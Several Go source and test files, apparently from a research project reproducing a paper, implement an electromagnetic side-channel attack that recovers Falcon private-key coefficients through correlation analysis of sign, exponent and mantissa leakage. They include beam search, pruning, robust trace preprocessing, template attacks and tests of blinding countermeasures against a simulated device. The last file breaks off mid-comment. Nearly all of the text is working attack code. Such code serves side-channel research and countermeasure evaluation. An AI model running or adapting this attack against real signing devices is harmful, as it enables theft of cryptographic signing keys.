// attackSign runs the two-hypothesis DEMA on the sign-XOR micro-ops of
// both windows touching the secret value. The correct guess has a
// positive correlation peak; the wrong one is its mirror image (the
// symmetry the paper notes in Fig. 4e).
func attackSign(obs []emleak.Observation, coeff int, part Part) (sign int, corr float64) {
	slots := part.mulSlots()
	engines := [2]*cpa.Engine{cpa.NewEngine(2), cpa.NewEngine(2)}
	h := make([]float64, 2)
	for _, o := range obs {
		for w, slot := range slots {
			sc := knownFor(slot, o.CFFT[coeff]).Sign()
			h[0] = float64(sc)
			h[1] = float64(sc ^ 1)
			t := o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(fpr.OpMulSign))]
			engines[w].Update(h, t)
		}
	}
	var score [2]float64
	for _, e := range engines {
		r := e.Corr()
		score[0] += r[0] / 2
		score[1] += r[1] / 2
	}
	if score[1] > score[0] {
		return 1, score[1]
	}
	return 0, score[0]
}

// attackSignJoint resolves the two sign bits of a complex coefficient by
// replaying the complex multiplication under all four sign hypotheses
// (magnitudes already recovered) and correlating the predicted Hamming
// weights of every sign-dependent micro-op — the four sign-XOR slots plus
// the subtraction and addition that combine the four real products. The
// combine stage depends on both signs through operand alignment and
// cancellation patterns, so it discriminates even when the known operand
// signs never vary.
func attackSignJoint(obs []emleak.Observation, coeff int, absRe, absIm fpr.FPR) (sRe, sIm int, corr float64) {
	// Candidate secrets under the four hypotheses.
	var cands [4]fft.Cplx
	for i := 0; i < 4; i++ {
		re := absRe
		im := absIm
		if i&1 == 1 {
			re = fpr.Neg(re)
		}
		if i&2 == 2 {
			im = fpr.Neg(im)
		}
		cands[i] = fft.Cplx{Re: re, Im: im}
	}
	// Sign-dependent samples within the coefficient window: the four
	// OpMulSign slots and the 12 samples of the two combine additions.
	var sampleOffsets []int
	for m := 0; m < emleak.MulsPerCoeff; m++ {
		sampleOffsets = append(sampleOffsets, m*emleak.OpsPerMul+int(fpr.OpMulSign))
	}
	for s := emleak.MulsPerCoeff * emleak.OpsPerMul; s < emleak.SamplesPerCoeff; s++ {
		sampleOffsets = append(sampleOffsets, s)
	}
	eng := cpa.NewMatrixEngine(4, len(sampleOffsets))
	base := coeff * emleak.SamplesPerCoeff
	var rec fpr.SliceRecorder
	hs := make([]float64, 4*len(sampleOffsets))
	t := make([]float64, len(sampleOffsets))
	for _, o := range obs {
		for i, cand := range cands {
			rec.Reset()
			fft.MulTraced(o.CFFT[coeff], cand, &rec)
			if rec.Len() != emleak.SamplesPerCoeff {
				// Degenerate replay (zero operand); predict flat.
				for j := range sampleOffsets {
					hs[i*len(sampleOffsets)+j] = 0
				}
				continue
			}
			for j, off := range sampleOffsets {
				hs[i*len(sampleOffsets)+j] = float64(bits.OnesCount64(rec.Values[off]))
			}
		}
		for j, off := range sampleOffsets {
			t[j] = o.Trace.Samples[base+off]
		}
		eng.Update(hs, t)
	}
	// Score: mean correlation across sign-dependent samples.
	score := eng.MeanScore()
	best, bestScore := 0, math.Inf(-1)
	for i := 0; i < 4; i++ {
		if score[i] > bestScore {
			best, bestScore = i, score[i]
		}
	}
	return best & 1, best >> 1, bestScore
}

// attackExponent guesses the 11-bit biased exponent of the secret operand
// against the exponent-adder records HW(bex_c + bey − 1023) of both
// windows.
//
// A subtlety the paper does not discuss: the Hamming weight of an adder
// output has an exact degeneracy. When the known exponent's spread across
// traces stays below 2^k, every hypothesis offset by a multiple of 2^k
// whose addition never carries into the varying low bits predicts an
// affine-shifted leakage — and Pearson correlation is affine-invariant, so
// those hypotheses tie *exactly* with the truth, at any trace count. The
// ties sit ≥ 16–32 apart in practice (hashed-message exponents span a few
// powers of two), while the feasible exponents of FFT(f) coefficients
// concentrate around 1023 + log2(√(n/2)·σ_{f,g}); exact ties are broken
// toward that magnitude prior.
func attackExponent(obs []emleak.Observation, coeff int, part Part) (biasedExp int, corr float64, alts []int) {
	const nHyp = 2047 // biased exponents 1..2046 plus index 0 unused
	slots := part.mulSlots()
	engines := [2]*cpa.Engine{cpa.NewEngine(nHyp), cpa.NewEngine(nHyp)}
	h := make([]float64, nHyp)
	for _, o := range obs {
		for w, slot := range slots {
			bec := knownFor(slot, o.CFFT[coeff]).BiasedExp()
			for hyp := 1; hyp < nHyp; hyp++ {
				h[hyp] = float64(bits.OnesCount64(uint64(bec + hyp - 1023)))
			}
			t := o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(fpr.OpMulExp))]
			engines[w].Update(h, t)
		}
	}
	r := make([]float64, nHyp)
	for _, e := range engines {
		for i, v := range e.Corr() {
			r[i] += v / 2
		}
	}
	best := cpa.TopK(r, 1)[0]
	n := 2 * len(obs[0].CFFT)
	prior := 1023 + int(math.Round(math.Log2(math.Sqrt(float64(n)/2)*ntru.SigmaFG(n))))
	// The degeneracy family of the winner: hypotheses offset by multiples
	// of 8 (the smallest power of two that can exceed a hashed-message
	// component's exponent spread) whose correlation is statistically
	// indistinguishable from the winner's. Exact ties match to ~1e-15;
	// near-ties (support crossing a carry boundary in a handful of traces)
	// can even beat the truth by noise, so the acceptance band is a small
	// correlation margin. Equal prior distances break toward correlation.
	const tieStep = 8
	const tieMargin = 0.05
	pick, pickDist := best.Index, abs(best.Index-prior)
	family := []int{best.Index}
	for hyp := 1; hyp < nHyp; hyp++ {
		if hyp == best.Index || (hyp-best.Index)%tieStep != 0 || best.Corr-r[hyp] > tieMargin {
			continue
		}
		family = append(family, hyp)
		if d := abs(hyp - prior); d < pickDist || (d == pickDist && r[hyp] > r[pick]) {
			pick, pickDist = hyp, d
		}
	}
	alts = make([]int, 0, len(family)-1)
	for _, hyp := range family {
		if hyp != pick {
			alts = append(alts, hyp)
		}
	}
	// Most plausible alternatives first, so the error-correction pass in
	// RecoverKey repairs quickly.
	sort.Slice(alts, func(i, j int) bool {
		return abs(alts[i]-prior) < abs(alts[j]-prior)
	})
	return pick, r[pick], alts
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}

// candidate is a partially or fully recovered mantissa half.
type candidate struct {
	value uint64
	corr  float64
}

// extendHalf is the extend phase: a windowed correlation attack on the
// schoolbook partial products involving the chosen secret half (B×D and
// A×D for the low half; B×C and A×C for the high half, in both
// multiplication windows), growing the guessed width from the least
// significant bits and carrying the TopK survivors. The low w bits of a
// product depend only on the low w bits of the secret half, which is what
// makes the incremental search sound; the full-width ranking retains the
// shift-related false positives that the prune phase later removes.
func extendHalf(obs []emleak.Observation, coeff int, part Part, width int, high bool, cfg Config) []candidate {
	slots := part.mulSlots()
	// Partial products touching this half: (op, use-high-known-half).
	type target struct {
		op     fpr.Op
		useHi  bool
		window int
	}
	var targets []target
	for _, w := range slots {
		if high {
			targets = append(targets,
				target{fpr.OpMulLH, false, w}, target{fpr.OpMulHH, true, w})
		} else {
			targets = append(targets,
				target{fpr.OpMulLL, false, w}, target{fpr.OpMulHL, true, w})
		}
	}
	cands := []candidate{{value: 0}}
	for low := 0; low < width; low += cfg.Window {
		w := cfg.Window
		if low+w > width {
			w = width - low
		}
		k := uint(low + w)
		mask := (uint64(1) << k) - 1
		// Expand every candidate by all values of the new window.
		next := make([]uint64, 0, len(cands)<<w)
		seen := make(map[uint64]bool, len(cands)<<w)
		for _, c := range cands {
			for v := uint64(0); v < 1<<w; v++ {
				nv := c.value | v<<low
				if !seen[nv] {
					seen[nv] = true
					next = append(next, nv)
				}
			}
		}
		if high && low+w == width {
			// The high half carries the implicit leading one.
			filtered := next[:0]
			for _, v := range next {
				if v>>(width-1) == 1 {
					filtered = append(filtered, v)
				}
			}
			next = filtered
		}
		engines := make([]*cpa.Engine, len(targets))
		for i := range engines {
			engines[i] = cpa.NewEngine(len(next))
		}
		h := make([]float64, len(next))
		for _, o := range obs {
			for ti, tg := range targets {
				known := knownFor(tg.window, o.CFFT[coeff])
				a, b := known.MantissaHalves()
				kn := b
				if tg.useHi {
					kn = a
				}
				for i, v := range next {
					h[i] = float64(bits.OnesCount64((kn * v) & mask))
				}
				engines[ti].Update(h, o.Trace.Samples[emleak.SampleIndex(coeff, tg.window, int(tg.op))])
			}
		}
		score := make([]float64, len(next))
		for _, e := range engines {
			for i, r := range e.Corr() {
				score[i] += r / float64(len(engines))
			}
		}
		top := cpa.TopK(score, cfg.TopK)
		cands = cands[:0]
		for _, g := range top {
			cands = append(cands, candidate{value: next[g.Index], corr: g.Corr})
		}
	}
	return cands
}

// prune is the prune phase: every surviving (D, C) pair is scored against
// the intermediate additions mid = lh+hl, sum1 = mid+(ll>>25) and
// sum2 = hh+(sum1>>25) in both windows, whose values the adversary can
// predict exactly from the known operand halves. Addition mixes the
// unrelated operand into each candidate's prediction, so the
// multiplicative shift ties break and only the true pair correlates at
// every addition.
func prune(obs []emleak.Observation, coeff int, part Part, dCands, cCands []candidate, cfg Config) (d, c uint64, corr, gap float64) {
	slots := part.mulSlots()
	type pair struct{ d, c uint64 }
	pairs := make([]pair, 0, len(dCands)*len(cCands))
	for _, dc := range dCands {
		for _, cc := range cCands {
			pairs = append(pairs, pair{dc.value, cc.value})
		}
	}
	ops := []fpr.Op{fpr.OpMulMid, fpr.OpMulSum1, fpr.OpMulSum2}
	nEng := len(ops) * len(slots)
	engines := make([]*cpa.Engine, nEng)
	for i := range engines {
		engines[i] = cpa.NewEngine(len(pairs))
	}
	h := make([][]float64, nEng)
	for i := range h {
		h[i] = make([]float64, len(pairs))
	}
	for _, o := range obs {
		for wi, slot := range slots {
			known := knownFor(slot, o.CFFT[coeff])
			a, b := known.MantissaHalves()
			for i, p := range pairs {
				ll := b * p.d
				hl := a * p.d
				lh := b * p.c
				hh := a * p.c
				mid := lh + hl
				sum1 := mid + (ll >> loBits)
				sum2 := hh + (sum1 >> loBits)
				h[wi*len(ops)+0][i] = float64(bits.OnesCount64(mid))
				h[wi*len(ops)+1][i] = float64(bits.OnesCount64(sum1))
				h[wi*len(ops)+2][i] = float64(bits.OnesCount64(sum2))
			}
			for oi, op := range ops {
				engines[wi*len(ops)+oi].Update(h[wi*len(ops)+oi],
					o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(op))])
			}
		}
	}
	// Combined score: the mean correlation across additions and windows.
	score := make([]float64, len(pairs))
	for _, e := range engines {
		for i, r := range e.Corr() {
			score[i] += r / float64(nEng)
		}
	}
	ranked := cpa.Rank(score)
	best := ranked[0]
	gap = 1.0
	if len(ranked) > 1 {
		gap = best.Corr - ranked[1].Corr
	}
	return pairs[best.Index].d, pairs[best.Index].c, best.Corr, gap
}

// AttackFFTf recovers the full FFT(f) vector (all real and imaginary
// parts) from the campaign. After the first pass, values whose prune
// correlation falls far below the campaign's median (a reliable signature
// of the extend phase having dropped the true prefix) are re-attacked
// with a much larger candidate beam.
func AttackFFTf(obs []emleak.Observation, cfg Config) ([]fft.Cplx, []ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	half := len(obs[0].CFFT)
	out := make([]fft.Cplx, half)
	results := make([]ValueResult, 2*half)
	// Coefficients are attacked independently (each reads its own trace
	// window and uses no shared randomness), so fan the first pass out
	// across cores; results stay deterministic.
	var (
		wg       sync.WaitGroup
		firstErr error
		errOnce  sync.Once
	)
	sem := make(chan struct{}, runtime.GOMAXPROCS(0))
	for k := 0; k < half; k++ {
		wg.Add(1)
		go func(k int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			z, res, err := AttackCoefficient(obs, k, cfg)
			if err != nil {
				errOnce.Do(func() { firstErr = fmt.Errorf("core: coefficient %d: %w", k, err) })
				return
			}
			out[k] = z
			results[2*k] = res[0]
			results[2*k+1] = res[1]
		}(k)
	}
	wg.Wait()
	if firstErr != nil {
		return nil, nil, firstErr
	}
	med := medianPrune(results)
	retry := cfg
	retry.TopK = maxTopK
	retry.EscalateBelow = -1 // beam already maximal; no inner escalation
	for k := 0; k < half; k++ {
		for p, part := range []Part{PartRe, PartIm} {
			r := results[2*k+p]
			if r.PruneCorr >= 0.8*med {
				continue
			}
			mag := attackMagnitude(obs, k, part, retry)
			if mag.pruneCorr <= r.PruneCorr {
				continue
			}
			old := out[k]
			sRe, sIm := old.Re.Sign(), old.Im.Sign()
			if part == PartRe {
				out[k].Re = fpr.FPR(uint64(sRe)<<63) | mag.abs()
			} else {
				out[k].Im = fpr.FPR(uint64(sIm)<<63) | mag.abs()
			}
			// Redo the joint sign attack with the corrected magnitudes.
			absRe := fpr.Abs(out[k].Re)
			absIm := fpr.Abs(out[k].Im)
			s0, s1, signCorr := attackSignJoint(obs, k, absRe, absIm)
			out[k].Re = fpr.FPR(uint64(s0)<<63) | absRe
			out[k].Im = fpr.FPR(uint64(s1)<<63) | absIm
			r.Value = out[k].Re
			if part == PartIm {
				r.Value = out[k].Im
			}
			r.PruneCorr = mag.pruneCorr
			r.RunnerUpGap = mag.gap
			r.SignCorr = signCorr
			r.Escalated = true
			results[2*k+p] = r
		}
	}
	return out, results, nil
}

// medianPrune returns the median prune correlation across values.
func medianPrune(results []ValueResult) float64 {
	vals := make([]float64, len(results))
	for i, r := range results {
		vals[i] = r.PruneCorr
	}
	for i := 1; i < len(vals); i++ {
		for j := i; j > 0 && vals[j] < vals[j-1]; j-- {
			vals[j], vals[j-1] = vals[j-1], vals[j]
		}
	}
	return vals[len(vals)/2]
}

// PrimaryWindow exposes the part's primary multiplication window index
// (emleak slot) for the experiment harness.
func (p Part) PrimaryWindow() int { return p.mulSlot() }

// KnownOperand exposes the adversary-known operand of the part's primary
// window for the experiment harness.
func (p Part) KnownOperand(z fft.Cplx) fpr.FPR { return p.known(z) }
