package core

import (
	"context"
	"errors"
	"reflect"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/tracestore"
)

// dirtyCorpus builds a campaign through a FlakyDevice that saturates 5%
// of the traces and desyncs another ~5% — the misbehavior mix of the
// acceptance scenario.
func dirtyCorpus(t *testing.T, dev *emleak.Device, count int) []emleak.Observation {
	t.Helper()
	fl := emleak.NewFlakyDevice(dev, emleak.Distortion{
		Seed:        77,
		GlitchProb:  0.05,
		DesyncProb:  0.05,
		DesyncShift: 2,
	}, nil)
	obs := make([]emleak.Observation, count)
	for i := range obs {
		o, err := fl.Measure(context.Background(), 3, uint64(i))
		if err != nil {
			t.Fatalf("measure %d: %v", i, err)
		}
		obs[i] = o
	}
	return obs
}

func TestRobustConfigEnabled(t *testing.T) {
	if (RobustConfig{}).Enabled() {
		t.Fatal("zero config must be disabled")
	}
	for _, rc := range []RobustConfig{{TrimSigmas: 3}, {ResyncShift: 2}, {Winsorize: 4}} {
		if !rc.Enabled() {
			t.Fatalf("%+v should be enabled", rc)
		}
	}
}

// The contrast at the heart of the issue: a corpus with 5% saturated and
// 5% desynced traces pushes the plain CPA off every value, while the
// robust preprocessing (energy trim + resync + winsorize) recovers all
// of them exactly.
func TestRobustRecoversDirtyCorpus(t *testing.T) {
	dev, priv, _ := deviceFor(t, 8, 1.5, 1)
	obs := dirtyCorpus(t, dev, 1200)
	src := tracestore.NewSliceSource(8, obs)
	secret := priv.FFTOfF()

	exact := func(cfg Config) int {
		t.Helper()
		out, _, err := AttackFFTfFrom(src, cfg)
		if err != nil {
			t.Fatalf("attack: %v", err)
		}
		match := 0
		for k := range out {
			if out[k].Re == secret[k].Re {
				match++
			}
			if out[k].Im == secret[k].Im {
				match++
			}
		}
		return match
	}

	plain := exact(Config{})
	robust := exact(Config{Robust: RobustConfig{TrimSigmas: 4, ResyncShift: 3, Winsorize: 4}})
	if plain >= 8 {
		t.Fatalf("plain CPA recovered %d/8 values on the dirty corpus; the contrast premise is gone", plain)
	}
	if robust != 8 {
		t.Fatalf("robust CPA recovered %d/8 values, want 8", robust)
	}
}

// The preprocessing plan is pinned: every pass over the transformed
// source yields identical bytes, and the energy screen actually drops
// the saturated traces.
func TestRobustSourceDeterministicPasses(t *testing.T) {
	dev, _, _ := deviceFor(t, 8, 1.5, 1)
	obs := dirtyCorpus(t, dev, 300)
	src := tracestore.NewSliceSource(8, obs)
	rs, err := prepareRobust(src, RobustConfig{TrimSigmas: 4, ResyncShift: 3, Winsorize: 4}, 1)
	if err != nil {
		t.Fatal(err)
	}
	rob := rs.(*robustSource)
	if rob.Trimmed() == 0 {
		t.Fatal("energy screen trimmed nothing despite 5% saturated traces")
	}
	if rs.Count() != 300-rob.Trimmed() {
		t.Fatalf("Count = %d, want %d", rs.Count(), 300-rob.Trimmed())
	}
	pass1, err := tracestore.ReadAll(rs)
	if err != nil {
		t.Fatal(err)
	}
	pass2, err := tracestore.ReadAll(rs)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(pass1, pass2) {
		t.Fatal("two passes over the robust source differ")
	}
	// And rebuilding the plan from scratch (what a resumed attack does)
	// yields the same bytes again.
	rs2, err := prepareRobust(src, RobustConfig{TrimSigmas: 4, ResyncShift: 3, Winsorize: 4}, 1)
	if err != nil {
		t.Fatal(err)
	}
	pass3, err := tracestore.ReadAll(rs2)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(pass1, pass3) {
		t.Fatal("rebuilt preprocessing plan produced different bytes")
	}
}

// Robust is part of Config for checkpoint binding: a sidecar written
// under one preprocessing setup must refuse to resume under another.
func TestRobustCheckpointBinding(t *testing.T) {
	cfgA := Config{Robust: RobustConfig{Winsorize: 4}}.withDefaults()
	cfgB := Config{Robust: RobustConfig{Winsorize: 5}}.withDefaults()
	ck := &Checkpoint{Format: checkpointFormat, N: 8, Count: 100, Config: cfgA, Stage: StageExponents, Mags: make([]MagCheckpoint, 8)}
	if err := ck.matches(8, 100, cfgA); err != nil {
		t.Fatalf("same config should match: %v", err)
	}
	if err := ck.matches(8, 100, cfgB); !errors.Is(err, ErrCheckpointMismatch) {
		t.Fatalf("different Robust config must mismatch, got %v", err)
	}
}
