package core

import (
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

func TestProfileTemplateLearnsLinearModel(t *testing.T) {
	dev, priv, _ := deviceFor(t, 8, 3.0, 40)
	obs := collect(t, dev, 3000, 41)
	tpl, err := ProfileTemplate(obs, priv.FFTOfF(), 0, PartRe, fpr.OpMulLL)
	if err != nil {
		t.Fatal(err)
	}
	// The device is HW-linear with unit gain: template means must grow
	// roughly one unit per class across the populated range.
	lo, hi := -1, -1
	for cls := 0; cls < 65; cls++ {
		if tpl.count[cls] >= 10 {
			if lo < 0 {
				lo = cls
			}
			hi = cls
		}
	}
	if hi-lo < 4 {
		t.Skipf("too few populated classes (%d..%d)", lo, hi)
	}
	slope := (tpl.mean[hi] - tpl.mean[lo]) / float64(hi-lo)
	if slope < 0.7 || slope > 1.3 {
		t.Errorf("template slope %v, want ≈1 (unit gain)", slope)
	}
	// Variances near the probe's σ².
	for cls := lo; cls <= hi; cls++ {
		if tpl.count[cls] >= 30 && (tpl.vari[cls] < 4 || tpl.vari[cls] > 16) {
			t.Errorf("class %d variance %v, want ≈9", cls, tpl.vari[cls])
		}
	}
}

func TestTemplateAttackRanksTruthFirst(t *testing.T) {
	dev, priv, _ := deviceFor(t, 8, 3.0, 42)
	profObs := collect(t, dev, 3000, 43)
	tpl, err := ProfileTemplate(profObs, priv.FFTOfF(), 1, PartRe, fpr.OpMulLL)
	if err != nil {
		t.Fatal(err)
	}
	attackObs := collect(t, dev, 400, 44)
	secret := priv.FFTOfF()[1].Re
	_, d := secret.MantissaHalves()
	if d == 0 {
		t.Skip("degenerate zero low half")
	}
	pool := []uint64{d}
	r := rng.New(45)
	for len(pool) < 32 {
		v := uint64(r.Intn(1 << 25))
		if v != d {
			pool = append(pool, v)
		}
	}
	ranked := TemplateAttackLowHalf(attackObs, 1, PartRe, pool, tpl)
	if pool[ranked[0].Index] != d {
		// Ties with shifts are possible; accept the truth within the top
		// shift-family size.
		found := false
		for i := 0; i < 3 && i < len(ranked); i++ {
			if pool[ranked[i].Index] == d {
				found = true
			}
		}
		if !found {
			t.Fatalf("template attack ranked %#x first, truth %#x not in top 3",
				pool[ranked[0].Index], d)
		}
	}
}

func TestTemplateErrors(t *testing.T) {
	if _, err := ProfileTemplate(nil, nil, 0, PartRe, fpr.OpMulLL); err == nil {
		t.Fatal("empty profiling accepted")
	}
}

func TestBlindingCountermeasures(t *testing.T) {
	priv, _, err := newKey(8, 50)
	if err != nil {
		t.Fatal(err)
	}
	truth := priv.FFTOfF()[1].Re
	const mantMask = (uint64(1) << 52) - 1

	// Exponent blinding: mantissa must survive, exponent must not (the
	// partial-countermeasure finding).
	devE := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, emleak.Probe{Gain: 1, NoiseSigma: 1}, 51)
	devE.ExponentBlind = true
	obsE, err := emleak.NewCampaign(devE, 52).Collect(1200)
	if err != nil {
		t.Fatal(err)
	}
	resE, err := AttackValue(obsE, 1, PartRe, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if uint64(resE.Value)&mantMask != uint64(truth)&mantMask {
		t.Errorf("exponent blinding broke the mantissa attack (it should not)")
	}
	if resE.Value.BiasedExp() == truth.BiasedExp() {
		t.Logf("note: exponent recovered despite blinding (possible by chance through the prior)")
	}

	// Multiplicative blinding: the mantissa attack must fail.
	devM := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, emleak.Probe{Gain: 1, NoiseSigma: 1}, 53)
	devM.MultBlind = true
	obsM, err := emleak.NewCampaign(devM, 54).Collect(1200)
	if err != nil {
		t.Fatal(err)
	}
	resM, err := AttackValue(obsM, 1, PartRe, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if uint64(resM.Value)&mantMask == uint64(truth)&mantMask {
		t.Errorf("multiplicative blinding did not stop the mantissa attack")
	}
}

// newKey is a test helper returning a fresh key pair.
func newKey(n int, seed uint64) (*falcon.PrivateKey, *falcon.PublicKey, error) {
	return falcon.GenerateKey(n, rng.New(seed))
}
