package core

// The attack primitives are written as "pass jobs": accumulators that
// consume one observation at a time and report their verdict after a
// full pass over the campaign. The slice-based APIs (AttackValue,
// AttackCoefficient) feed jobs from an in-memory []Observation; the
// streamed path (AttackFFTfFrom) feeds the *same* jobs from a replayable
// on-disk Source, batching every value's job into shared passes so the
// whole-key attack touches the corpus a bounded number of times
// regardless of its size. Every path — slice-fed, streamed serial, and
// the parallel engine at any worker count — accumulates through the same
// canonical sharded reduction (see parallel.go), so their results are
// bit-for-bit equal.
//
// Each job implements mergeJob: clone() returns a zero-state accumulator
// sharing the job's read-only configuration (targets, candidate lists,
// sample offsets), and merge() folds a clone's engine sums back in.

import (
	"math"
	"math/bits"
	"sort"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
)

// passJob consumes one observation of a sequential campaign pass.
type passJob interface {
	observe(o emleak.Observation)
}

// feedSlice drives jobs from an in-memory campaign through the canonical
// sharded reduction, so slice-fed results stay bit-identical to the
// streamed and parallel paths. Jobs that cannot merge (none of the attack
// jobs today) fall back to plain sequential accumulation.
func feedSlice(obs []emleak.Observation, jobs ...passJob) {
	mjobs := make([]mergeJob, len(jobs))
	for i, j := range jobs {
		mj, ok := j.(mergeJob)
		if !ok {
			for _, o := range obs {
				for _, j := range jobs {
					j.observe(o)
				}
			}
			return
		}
		mjobs[i] = mj
	}
	for lo := 0; lo < len(obs); lo += shardObs {
		foldShard(mjobs, obs[lo:min(lo+shardObs, len(obs))])
	}
}

// signJob is the two-hypothesis DEMA on the sign-XOR micro-ops of both
// windows touching the secret value (see attackSign).
type signJob struct {
	coeff   int
	part    Part
	kern    cpa.Kernel
	engines [2]*cpa.Engine
	h       []float64
}

func newSignJob(coeff int, part Part, kern cpa.Kernel) *signJob {
	return &signJob{
		coeff:   coeff,
		part:    part,
		kern:    kern,
		engines: [2]*cpa.Engine{cpa.NewEngineKernel(2, kern), cpa.NewEngineKernel(2, kern)},
		h:       make([]float64, 2),
	}
}

func (j *signJob) observe(o emleak.Observation) {
	for w, slot := range j.part.mulSlots() {
		sc := knownFor(slot, o.CFFT[j.coeff]).Sign()
		j.h[0] = float64(sc)
		j.h[1] = float64(sc ^ 1)
		t := o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(fpr.OpMulSign))]
		j.engines[w].Update(j.h, t)
	}
}

func (j *signJob) clone() mergeJob { return newSignJob(j.coeff, j.part, j.kern) }

// Two hypotheses per engine leave no tile to block; the scalar loop is
// the batch path. kernel/cells feed the sweep throughput metrics.
func (j *signJob) kernel() cpa.Kernel { return j.kern }
func (j *signJob) cells() int         { return 2 * 2 }

func (j *signJob) merge(o mergeJob) {
	for w, e := range o.(*signJob).engines {
		j.engines[w].Merge(e)
	}
}

func (j *signJob) result() (sign int, corr float64) {
	var score [2]float64
	for _, e := range j.engines {
		r := e.Corr()
		score[0] += r[0] / 2
		score[1] += r[1] / 2
	}
	if score[1] > score[0] {
		return 1, score[1]
	}
	return 0, score[0]
}

// expJob guesses the 11-bit biased exponent against the exponent-adder
// records of both windows (see attackExponent).
type expJob struct {
	coeff   int
	part    Part
	kern    cpa.Kernel
	engines [2]*cpa.Engine
	h       []float64
}

const nExpHyp = 2047 // biased exponents 1..2046 plus index 0 unused

func newExpJob(coeff int, part Part, kern cpa.Kernel) *expJob {
	return &expJob{
		coeff:   coeff,
		part:    part,
		kern:    kern,
		engines: [2]*cpa.Engine{cpa.NewEngineKernel(nExpHyp, kern), cpa.NewEngineKernel(nExpHyp, kern)},
		h:       make([]float64, nExpHyp),
	}
}

func (j *expJob) observe(o emleak.Observation) {
	for w, slot := range j.part.mulSlots() {
		bec := knownFor(slot, o.CFFT[j.coeff]).BiasedExp()
		for hyp := 1; hyp < nExpHyp; hyp++ {
			j.h[hyp] = float64(bits.OnesCount64(uint64(bec + hyp - 1023)))
		}
		t := o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(fpr.OpMulExp))]
		j.engines[w].Update(j.h, t)
	}
}

// observeBatch is the blocked path over one shard: the per-trace biased
// exponent and trace sample are hoisted once per window, then the engine
// runs its tiled update with the hypothesis row regenerated per tile.
// Windows use distinct engines, so batching a whole shard per window
// preserves each engine's per-cell add order — byte-identical to observe.
func (j *expJob) observeBatch(shard []emleak.Observation) {
	if j.kern != cpa.KernelBlocked {
		for _, o := range shard {
			j.observe(o)
		}
		return
	}
	becs := make([]int, len(shard))
	ts := make([]float64, len(shard))
	for w, slot := range j.part.mulSlots() {
		for tr, o := range shard {
			becs[tr] = knownFor(slot, o.CFFT[j.coeff]).BiasedExp()
			ts[tr] = o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(fpr.OpMulExp))]
		}
		j.engines[w].UpdateBatchFunc(ts, func(tr, lo, hi int, dst []float64) {
			bec := becs[tr]
			for hyp := lo; hyp < hi; hyp++ {
				if hyp == 0 {
					dst[0] = 0 // index 0 unused; scalar path never writes it
					continue
				}
				dst[hyp-lo] = float64(bits.OnesCount64(uint64(bec + hyp - 1023)))
			}
		})
	}
}

func (j *expJob) clone() mergeJob { return newExpJob(j.coeff, j.part, j.kern) }

func (j *expJob) kernel() cpa.Kernel { return j.kern }
func (j *expJob) cells() int         { return 2 * nExpHyp }

func (j *expJob) merge(o mergeJob) {
	for w, e := range o.(*expJob).engines {
		j.engines[w].Merge(e)
	}
}

// result resolves the winner and its degeneracy family for ring degree n
// (the magnitude prior depends on n; see the exponent-tie discussion in
// attackExponent).
func (j *expJob) result(n int) (biasedExp int, corr float64, alts []int) {
	r := make([]float64, nExpHyp)
	for _, e := range j.engines {
		for i, v := range e.Corr() {
			r[i] += v / 2
		}
	}
	best := cpa.TopK(r, 1)[0]
	prior := 1023 + int(math.Round(math.Log2(math.Sqrt(float64(n)/2)*ntru.SigmaFG(n))))
	// The degeneracy family of the winner: hypotheses offset by multiples
	// of 8 (the smallest power of two that can exceed a hashed-message
	// component's exponent spread) whose correlation is statistically
	// indistinguishable from the winner's. Exact ties match to ~1e-15;
	// near-ties (support crossing a carry boundary in a handful of traces)
	// can even beat the truth by noise, so the acceptance band is a small
	// correlation margin. Equal prior distances break toward correlation.
	const tieStep = 8
	const tieMargin = 0.05
	pick, pickDist := best.Index, abs(best.Index-prior)
	family := []int{best.Index}
	for hyp := 1; hyp < nExpHyp; hyp++ {
		if hyp == best.Index || (hyp-best.Index)%tieStep != 0 || best.Corr-r[hyp] > tieMargin {
			continue
		}
		family = append(family, hyp)
		if d := abs(hyp - prior); d < pickDist || (d == pickDist && r[hyp] > r[pick]) {
			pick, pickDist = hyp, d
		}
	}
	alts = make([]int, 0, len(family)-1)
	for _, hyp := range family {
		if hyp != pick {
			alts = append(alts, hyp)
		}
	}
	// Most plausible alternatives first, so the error-correction pass in
	// RecoverKey repairs quickly.
	sort.Slice(alts, func(i, j int) bool {
		return abs(alts[i]-prior) < abs(alts[j]-prior)
	})
	return pick, r[pick], alts
}

// extendTarget is one partial product touching the attacked mantissa
// half: (micro-op, which known half multiplies it, window).
type extendTarget struct {
	op     fpr.Op
	useHi  bool
	window int
}

// extendTargets enumerates the partial products involving the chosen
// secret half (B×D and A×D for the low half; B×C and A×C for the high
// half, in both multiplication windows).
func extendTargets(part Part, high bool) []extendTarget {
	var targets []extendTarget
	for _, w := range part.mulSlots() {
		if high {
			targets = append(targets,
				extendTarget{fpr.OpMulLH, false, w}, extendTarget{fpr.OpMulHH, true, w})
		} else {
			targets = append(targets,
				extendTarget{fpr.OpMulLL, false, w}, extendTarget{fpr.OpMulHL, true, w})
		}
	}
	return targets
}

// extendState runs the extend phase of one mantissa half as a sequence of
// rounds, each one campaign pass: a windowed correlation attack on the
// schoolbook partial products, growing the guessed width from the least
// significant bits and carrying the TopK survivors. The low w bits of a
// product depend only on the low w bits of the secret half, which is what
// makes the incremental search sound; the full-width ranking retains the
